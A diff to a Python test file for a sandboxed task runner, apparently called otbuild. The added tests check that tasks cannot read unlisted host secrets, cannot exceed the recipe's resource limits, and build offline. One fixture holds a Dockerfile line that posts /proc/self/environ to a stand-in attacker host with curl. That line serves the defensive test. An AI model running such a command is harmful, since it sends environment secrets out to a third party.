@@ -144,6 +144,20 @@ def _settings(**trials) -> TrialSettings:
     return TrialSettings(Trials(**trials), "terminus2")
 
 
+def test_host_variables_a_task_asks_for_are_refused_unless_the_recipe_allows_them():
+    """Issue 44 (2): every env table's `${VAR}` (defaults too) is checked against the recipe's host_env."""
+    from otbuild.tasks.task_toml import refused_host_env
+
+    c = config('[environment.env]\nA = "${HF_TOKEN}"\nB = "literal"\n[solution.env]\nC = "${REGION:-eu}"\n'
+               '[verifier.env]\nD = "${JUDGE_KEY}"\n[[steps]]\nname = "one"\n[steps.verifier.env]\nE = "${AWS_KEY}"\n')
+    assert refused_host_env(c, ()) == ["[environment].env A: HF_TOKEN", "[solution].env C: REGION",
+                                       "[verifier].env D: JUDGE_KEY", "[steps.one.verifier].env E: AWS_KEY"]
+    assert refused_host_env(c, ("HF_TOKEN", "REGION", "JUDGE_KEY", "AWS_KEY")) == []
+    assert Trials().host_env == () and Trials(host_env=["JUDGE_KEY"]).host_env == ("JUDGE_KEY",)
+    with pytest.raises(ValueError):
+        Trials(host_env=["not a name"])
+
+
 def test_timeouts_follow_harbor_with_the_recipe_cap():
     none_set, both = config(""), config("[agent]\ntimeout_sec = 300\n[verifier]\ntimeout_sec = 120\n")
     # no agent limit of the task's own: the cap; the verifier: Harbor's 600 s
@@ -164,14 +178,42 @@ def test_memory_and_storage_of_the_task():
     recipe = Limits(memory_mb=4096, storage_mb=10240)
     small = task("[environment]\nmemory_mb = 1024\nstorage_mb = 2048\n")
     big = task("[environment]\nmemory_mb = 16384\n")
-    # podman: the task's memory is the container's memory limit (Docker's under Harbor)
+    # podman: the task's memory is the container's memory limit (Docker's under Harbor), up to the recipe's
     assert (task_limits(small, "podman", recipe).memory_mb, task_limits(big, "podman", recipe).memory_mb) == (
-        1024, 16384)
-    # bwrap: an address-space rlimit, which the task may raise but not lower
+        1024, 4096)
+    # bwrap: an address-space rlimit, which the task does not lower (runtimes map more than they use)
     assert (task_limits(small, "bwrap", recipe).memory_mb, task_limits(big, "bwrap", recipe).memory_mb) == (
-        4096, 16384)
+        4096, 4096)
     assert task_limits(small, "bwrap", recipe).storage_mb == 2048
     assert task_limits(task(None), "podman", recipe) == recipe
+
+
+@pytest.mark.parametrize("backend", ["bwrap", "podman"])
+def test_a_task_never_raises_the_recipes_limits_unless_the_recipe_lets_it(backend):
+    """Issue 44 (5): `storage_mb = 100000000` would be a tmpfs that size as root; the recipe's
+    limits are ceilings a task may only lower, unless `limits.tasks_may_raise`."""
+    recipe = Limits(memory_mb=4096, storage_mb=10240)
+    greedy = task("[environment]\nmemory_mb = 100000000\nstorage_mb = 100000000\ncpus = 4096\n")
+    got = task_limits(greedy, backend, recipe)
+    assert (got.memory_mb, got.storage_mb) == (4096, 10240)
+    raised = task_limits(greedy, backend, Limits(memory_mb=4096, storage_mb=10240, tasks_may_raise=True))
+    assert (raised.memory_mb, raised.storage_mb) == (100000000, 100000000)
+    assert "tasks_may_raise" in Trials.model_fields["limits"].annotation.model_fields
+
+
+def test_a_task_gets_no_more_cpus_or_build_time_than_the_recipe(monkeypatch, tmp_path):
+    """Issue 44 (5): a task's cpus are capped at the recipe's limits.cpus (default: the host's),
+    its build_timeout_sec at otbuild's own build limit."""
+    from otbuild.sandbox import podman
+
+    seen = {}
+    monkeypatch.setattr(podman, "ensure_image", lambda task, image, pull, timeout, network: seen.update(timeout=timeout) or "img")
+    monkeypatch.setattr(podman, "PodmanSandbox", lambda *a, cpus, **k: seen.update(cpus=cpus))
+    greedy = task("[environment]\ncpus = 4096\nbuild_timeout_sec = 1e9\n")
+    podman.open_podman(greedy, tmp_path, Limits(cpus=2), with_solution=False, cleanup=True)
+    assert seen == {"cpus": 2.0, "timeout": podman.BUILD_TIMEOUT_SEC}
+    podman.open_podman(task("[environment]\ncpus = 1\n"), tmp_path, Limits(cpus=2), with_solution=False, cleanup=True)
+    assert seen["cpus"] == 1.0  # lowering is the task's to do
 
 
 def test_podman_networks_per_phase(monkeypatch):
@@ -219,7 +261,7 @@ def test_podman_gets_the_build_timeout_and_the_phase_networks(monkeypatch, tmp_p
     from otbuild.sandbox import podman
 
     seen = {}
-    monkeypatch.setattr(podman, "ensure_image", lambda task, image, pull, timeout: seen.update(timeout=timeout) or "img")
+    monkeypatch.setattr(podman, "ensure_image", lambda task, image, pull, timeout, network: seen.update(timeout=timeout) or "img")
 
     class Box:
         def __init__(self, task, root, image, limits, *, cpus, networks, with_solution, cleanup):
@@ -231,6 +273,31 @@ def test_podman_gets_the_build_timeout_and_the_phase_networks(monkeypatch, tmp_p
              '[verifier]\nnetwork_mode = "public"\n')
     podman.open_podman(t, tmp_path, Limits(), with_solution=False, cleanup=True)
     assert seen == {"timeout": 42.0, "networks": TrialNetworks("none", "podman"), "cpus": 1.0}
+
+
+def test_podman_builds_run_offline_unless_the_recipe_lets_them_fetch(monkeypatch, tmp_path):
+    """Issue 44 (8): a Dockerfile's RUN lines are the task's own commands, run at build time: they
+    get no network unless the recipe's build_network is public."""
+    from otbuild.sandbox import podman
+
+    builds = []
+
+    def run(argv, **kw):
+        builds.append(argv)
+        return subprocess.CompletedProcess(argv, 1, "", "RUN curl evil.example: could not resolve host")
+
+    monkeypatch.setattr(podman, "image_exists", lambda ref: False)
+    monkeypatch.setattr(podman, "LOCK_DIR", tmp_path / "locks")
+    monkeypatch.setattr(podman.subprocess, "run", run)
+    t = task(None)
+    t.add("environment/Dockerfile", "FROM ubuntu:24.04\nRUN curl -d @/proc/self/environ evil.example\n")
+    with pytest.raises(podman.ImageBuildError, match="build_network: public"):
+        podman.open_podman(t, tmp_path, Limits(), with_solution=False, cleanup=True)
+    with pytest.raises(podman.ImageBuildError):
+        podman.open_podman(t, tmp_path, Limits(build_network="public"), with_solution=False, cleanup=True)
+    offline, online = builds
+    assert offline[:2] == ["podman", "build"] and "--network=none" in offline
+    assert not any(a.startswith("--network") for a in online)
 
 
 def test_podman_switches_networks_between_phases(monkeypatch, tmp_path):
